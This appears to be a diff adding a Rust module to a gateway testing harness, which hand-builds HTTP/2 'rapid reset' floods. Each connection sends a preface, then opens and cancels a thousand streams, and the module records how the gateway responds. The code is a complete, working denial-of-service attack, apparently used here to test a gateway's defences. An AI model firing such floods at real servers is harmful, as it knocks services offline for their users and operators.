@@ -1,0 +1,102 @@
+//! Rapid resets over HTTP/2, frame by frame, since no library sends them.
+
+use std::io;
+use std::rc::Rc;
+use std::time::Duration;
+
+use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
+use tokio::time::timeout;
+
+use super::attack::{Attack, at_rate};
+use super::tally::Outcome;
+use crate::origin::REFUSED;
+
+/// Streams that one connection opens and resets.
+const STREAMS: u32 = 1000;
+
+/// The time that an attacker waits for the end of its connection.
+const PATIENCE: Duration = Duration::from_secs(5);
+
+/// HTTP/2 connections on which each request is reset as soon as it is sent.
+pub async fn rapid_resets(attack: Rc<Attack>, rate: u32) {
+    let flood: Rc<[u8]> = resets(&attack.wrong).into();
+    at_rate(rate, |_| {
+        let (attack, flood) = (attack.clone(), flood.clone());
+        async move {
+            let outcome = match timeout(PATIENCE, until_the_end(&attack, &flood)).await {
+                Ok(Ok(())) => Outcome::Closed,
+                Ok(Err(error)) => Outcome::of(&error),
+                Err(_) => Outcome::Ignored,
+            };
+            attack.count("rapid resets", outcome);
+        }
+    })
+    .await;
+}
+
+/// Sends as much as the gateway takes, and reads until the connection ends.
+async fn until_the_end(attack: &Attack, bytes: &[u8]) -> io::Result<()> {
+    let (mut reader, mut writer) = attack.connect().await?.into_split();
+    let send = async {
+        // The gateway may end the connection at any byte.
+        let _ = writer.write_all(bytes).await;
+    };
+    let receive = async {
+        let mut buffer = [0; 4096];
+        while reader.read(&mut buffer).await? > 0 {}
+        Ok(())
+    };
+    tokio::join!(send, receive).1
+}
+
+/// The preface, and then each stream opened and reset (RFC 9113 §6.4).
+fn resets(token: &str) -> Vec<u8> {
+    const HEADERS: u8 = 1;
+    const RST_STREAM: u8 = 3;
+    const SETTINGS: u8 = 4;
+    const END_STREAM_AND_HEADERS: u8 = 5;
+    const CANCEL: [u8; 4] = [0, 0, 0, 8];
+    let path = format!("{REFUSED}reset");
+    let mut block = Vec::new();
+    for (name, value) in [
+        (":method", "GET"),
+        (":scheme", "http"),
+        (":authority", "a"),
+        (":path", path.as_str()),
+        ("approov-token", token),
+    ] {
+        block.push(0); // A literal that is not indexed (RFC 7541 §6.2.2).
+        for text in [name, value] {
+            text_length(text.len(), &mut block);
+            block.extend_from_slice(text.as_bytes());
+        }
+    }
+    let mut bytes = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+    frame(&mut bytes, SETTINGS, 0, 0, &[]);
+    for stream in (1..2 * STREAMS).step_by(2) {
+        frame(&mut bytes, HEADERS, END_STREAM_AND_HEADERS, stream, &block);
+        frame(&mut bytes, RST_STREAM, 0, stream, &CANCEL);
+    }
+    bytes
+}
+
+fn frame(bytes: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, payload: &[u8]) {
+    bytes.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
+    bytes.extend_from_slice(&[kind, flags]);
+    bytes.extend_from_slice(&stream.to_be_bytes());
+    bytes.extend_from_slice(payload);
+}
+
+/// An integer with a prefix of seven bits (RFC 7541 §5.1).
+fn text_length(length: usize, block: &mut Vec<u8>) {
+    if length < 127 {
+        return block.push(length as u8);
+    }
+    block.push(127);
+    let mut rest = length - 127;
+    while rest >= 128 {
+        block.push((rest % 128 + 128) as u8);
+        rest /= 128;
+    }
+    block.push(rest as u8);
+}
